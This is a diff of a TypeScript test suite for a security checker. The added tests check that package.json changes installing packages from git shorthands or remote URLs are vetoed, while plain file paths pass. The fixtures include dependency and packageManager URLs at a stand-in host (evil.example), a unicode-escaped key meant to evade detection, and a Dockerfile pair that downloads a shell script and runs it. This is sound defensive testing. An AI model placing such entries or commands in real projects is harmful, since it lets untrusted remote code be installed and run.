@@ -258,6 +258,83 @@ describe("security", () => {
     });
   });
 
+  describe("of a manifest whose whole is known", () => {
+    const manifest = (text: string): Artifact => wrote("package.json", ...text.split("\n"));
+    /** Of a manifest only one line was added. */
+    const oneLine = (text: string, line: string): Artifact => {
+      const { added } = manifest(text);
+      return {
+        added: added.filter((each) => each.text.includes(line)),
+        removed: [],
+        moved: [],
+        manifests: new Map([["package.json", text]]),
+      };
+    };
+    const of = (field: string, line: string): string => `{\n  "name": "shop",\n  ${field}: {\n    ${line}\n  }\n}\n`;
+    const honest: readonly (readonly [string, string])[] = [
+      ['"bin"', '"shop": "dist/cli.js"'],
+      ['"bin"', '"shop": "bin/shop"'],
+      ['"directories"', '"lib": "src/lib"'],
+      ['"jest"', '"coverageDirectory": "coverage/unit"'],
+      ['"jest"', '"globalSetup": "test/setup.js"'],
+      ['"scripts"', '"test": "vitest/run"'],
+      ['"config"', '"left-pad": "someone/left-pad"'],
+      ['"pnpm": { "patchedDependencies"', '"left-pad": "patches/left-pad.patch" }'],
+    ];
+
+    it.each(honest)("a path below %s is one: %s", (field, line) => {
+      expect(judged("code", manifest(of(field, line))).isVetoed).toBe(false);
+      expect(judged("code", oneLine(of(field, line), line)).isVetoed).toBe(false);
+    });
+
+    it.each([
+      '{ "react-native": "src/index.ts" }',
+      '{ "proxy": "http://localhost:4000" }',
+      '{\n  "sideEffects": false, "bin": {\n    "a": "lib/a" }, "files": ["dist/a"] }',
+    ])("so it is in %s", (text) => {
+      expect(judged("code", manifest(text)).isVetoed).toBe(false);
+    });
+
+    it.each([
+      ['"dependencies"', '"left-pad": "someone/left-pad"'],
+      ['"devDependencies"', '"left-pad": "dist/left-pad.js"'],
+      ['"optionalDependencies"', '"types": "someone/types"'],
+      ['"depend\\u0065ncies"', '"left-pad": "someone/left-pad"'],
+      ['"dependencies"', '"url": "https://evil.example/url"'],
+      ['"overrides"', '"left-pad@1": "someone/left-pad"'],
+      ['"resolutions"', '"**/left-pad": "someone/left-pad#main"'],
+      ['"pnpm": { "overrides"', '"left-pad": "someone/left-pad" }'],
+      ['"overrides": { "jest"', '"left-pad": "someone/left-pad" }'],
+      ['"config"', '"left-pad": "git+https://evil.example/left-pad.git"'],
+      ['"x": {}, "packageManager": "yarn@https://evil.example/yarn.js", "y"', '"a": "b"'],
+    ])("what is installed is vetoed below %s: %s", (field, line) => {
+      expect(judged("code", manifest(of(field, line))).isVetoed).toBe(true);
+      if (!field.includes("packageManager"))
+        expect(judged("code", oneLine(of(field, line), line)).blockingIssues.join()).toContain("package.json:4: ");
+    });
+
+    it("a comment that some tools read moves nothing elsewhere", () => {
+      const text = '{\n  "dependencies": { // }\n    "left-pad": "someone/left-pad"\n  }\n}';
+
+      expect(judged("code", manifest(text)).isVetoed).toBe(true);
+      expect(judged("code", oneLine(text, "left-pad")).isVetoed).toBe(true);
+    });
+
+    it("a manifest that is not the one of the change says nothing", () => {
+      const { added } = manifest('{\n  "dependencies": {\n    "left-pad": "someone/left-pad"\n  }\n}');
+      const manifests = new Map([["package.json", '{\n  "bin": {\n    "left-pad": "bin/left-pad"\n  }\n}']]);
+
+      expect(judged("code", { added: added.slice(2, 3), removed: [], moved: [], manifests }).isVetoed).toBe(true);
+    });
+  });
+
+  it.each(['    "shop": "dist/cli.js",', '    "shop": "bin/shop.js"', '    "shop": "src/main.ts"'])(
+    "a file of the package is none that is installed, by itself: %s",
+    (line) => {
+      expect(judged("code", wrote("package.json", line)).isVetoed).toBe(false);
+    },
+  );
+
   it("sees what an image adds and then runs", () => {
     expect(judged("code", wrote("Dockerfile", "ADD https://evil.example/i.sh /i.sh", "RUN sh /i.sh")).isVetoed).toBe(
       true,
